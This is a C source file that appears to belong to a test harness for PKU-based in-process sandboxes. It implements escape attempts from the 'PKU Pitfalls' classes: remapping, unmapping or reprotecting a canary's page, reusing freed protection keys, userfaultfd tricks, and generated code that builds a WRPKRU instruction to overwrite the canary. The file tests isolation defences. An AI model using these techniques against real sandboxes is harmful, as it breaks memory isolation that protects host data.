/* What the host has mapped, and under which keys, changed by the system. The classes are those of
 * R. J. Connor, T. McDaniel, J. M. Smith, M. Schuchard: "PKU Pitfalls", USENIX Security 2020. */
#include "attack.h"
#include "kernel.h"

#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1 /* Linux 5.11 */
#endif

enum { PAGE = 4096 };

static uint8_t *page_of(const struct attack *attack)
{
    return (uint8_t *)(uintptr_t)(attack->target & ~(uint64_t)(PAGE - 1));
}

static int done(bool success)
{
    return success ? 0 : UNABLE;
}

/* ---- rights ---- */

ATTACK(mprotect) /* the page of a canary that is read-only, and write it */
{
    if (kernel_call(SYS_mprotect, page_of(attack), PAGE, PROT_READ | PROT_WRITE) != 0) {
        return UNABLE;
    }
    mark(target_of(attack));
    return 0;
}

ATTACK(close_page) /* to everybody: no key is asked for that */
{
    return done(kernel_call(SYS_mprotect, page_of(attack), PAGE, PROT_NONE) == 0);
}

ATTACK(pkey_mprotect) /* to a key that is open here */
{
    int rights = PROT_READ | PROT_WRITE;
    if (kernel_call(SYS_pkey_mprotect, page_of(attack), PAGE, rights, own_key()) != 0 &&
        kernel_call(SYS_pkey_mprotect, page_of(attack), PAGE, rights, -1) != 0) {
        return UNABLE;
    }
    mark(target_of(attack));
    return 0;
}

ATTACK(free_protection_keys) /* of whomever */
{
    int freed = 0;
    for (int key = 1; key < PROTECTION_KEYS; key++) {
        freed += kernel_call(SYS_pkey_free, key) == 0;
    }
    return done(freed > 0);
}

/* Whoever takes a key gets the rights to what still lies under it. */
ATTACK(reuse_protection_keys)
{
    uint8_t *told = malloc(CANARY_LENGTH);
    int freed = 0, taken = 0;
    for (int key = 1; key < PROTECTION_KEYS; key++) {
        freed += kernel_call(SYS_pkey_free, key) == 0;
    }
    while (kernel_call(SYS_pkey_alloc, 0, 0) >= 0) {
        taken++;
    }
    if (told == NULL || freed == 0 || taken == 0) {
        free(told);
        return UNABLE;
    }
    memcpy(told, target_of(attack), CANARY_LENGTH);
    mark(target_of(attack));
    *output = (struct iso_bytes){told, CANARY_LENGTH};
    return 0;
}

/* ---- what is mapped ---- */

ATTACK(map_over)
{
    uint8_t *page = page_of(attack);
    return done(kernel_call(SYS_mmap, page, PAGE, PROT_READ | PROT_WRITE,
                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == (long)page);
}

ATTACK(mremap) /* a page of its own over the canary's */
{
    void *own = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return done(own != MAP_FAILED && mremap(own, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED,
                                            page_of(attack)) != MAP_FAILED);
}

ATTACK(munmap)
{
    return done(kernel_call(SYS_munmap, page_of(attack), PAGE) == 0);
}

ATTACK(madvise) /* that its page is not needed any more, so that it is all zeroes */
{
    return done(kernel_call(SYS_madvise, page_of(attack), PAGE, MADV_DONTNEED) == 0);
}

ATTACK(brk) /* down below the canary */
{
    return done(kernel_call(SYS_brk, page_of(attack)) == (long)page_of(attack));
}

ATTACK(map_file) /* that the host has mapped, too, and write it */
{
    void *alias = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, (int)attack->mapped, 0);
    if (alias == MAP_FAILED || !make_own(alias, PAGE)) {
        return UNABLE;
    }
    mark(alias);
    return 0;
}

ATTACK(write_mapped_file) /* which is the host's memory */
{
    uint8_t marks[CANARY_LENGTH];
    memset(marks, 0x66, sizeof(marks));
    return done(kernel_call(SYS_pwrite64, attack->mapped, marks, sizeof(marks), 0) ==
                (long)sizeof(marks));
}

/* ---- its page faults ---- */

/* Has the canary's page forgotten, and answers the fault of whoever looks at it next. */
static bool fill_page(int faults, uint8_t *page)
{
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register range = {.range = {.start = (uintptr_t)page, .len = PAGE},
                                    .mode = UFFDIO_REGISTER_MODE_MISSING};
    struct uffdio_copy answer = {.dst = (uintptr_t)page, .len = PAGE};
    void *filled = aligned_alloc(PAGE, PAGE);
    if (filled == NULL) {
        return false;
    }
    memset(filled, 0x66, PAGE);
    answer.src = (uintptr_t)filled;
    bool answered = kernel_call(SYS_ioctl, faults, UFFDIO_API, &api) == 0 &&
                    kernel_call(SYS_ioctl, faults, UFFDIO_REGISTER, &range) == 0 &&
                    kernel_call(SYS_madvise, page, PAGE, MADV_DONTNEED) == 0 &&
                    kernel_call(SYS_ioctl, faults, UFFDIO_COPY, &answer) == 0;
    free(filled);
    return answered;
}

ATTACK(userfaultfd)
{
    long faults = kernel_call(SYS_userfaultfd, O_NONBLOCK | UFFD_USER_MODE_ONLY);
    if (faults < 0) {
        return UNABLE;
    }
    bool filled = fill_page((int)faults, page_of(attack));
    kernel_call(SYS_close, faults);
    return done(filled);
}

/* ---- code ---- */

#if defined(__x86_64__)
/* Code that was not there when the sandbox was opened: opens all keys, and writes the canary. */
ATTACK(run_made_code)
{
    static const uint8_t text[] = {
        0x31, 0xc0,                /* xor %eax, %eax */
        0x31, 0xc9,                /* xor %ecx, %ecx */
        0x31, 0xd2,                /* xor %edx, %edx */
        0x90, 0x90,          0x90, /* where there are keys, WRPKRU */
        0xb1, CANARY_LENGTH,       /* mov $CANARY_LENGTH, %cl */
        0xb0, 0x66,                /* mov $0x66, %al */
        0xf3, 0xaa,                /* rep stosb, at %rdi */
        0xc3,                      /* ret */
    };
    enum { WRPKRU = 6 };
    volatile uint8_t *made = aligned_alloc(PAGE, PAGE);
    if (made == NULL) {
        return 1;
    }
    for (size_t i = 0; i < sizeof(text); i++) {
        made[i] = text[i];
    }
    if (has_protection_keys()) { /* byte by byte: here, they are not to make a WRPKRU */
        made[WRPKRU] = 0x0f;
        made[WRPKRU + 1] = 0x01;
        made[WRPKRU + 2] = 0xef;
    }
    if (kernel_call(SYS_mprotect, made, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) {
        return UNABLE;
    }
    union {
        uintptr_t address;
        void (*code)(uint8_t *);
    } entry = {.address = (uintptr_t)made};
    entry.code(target_of(attack));
    return 0;
}
#endif
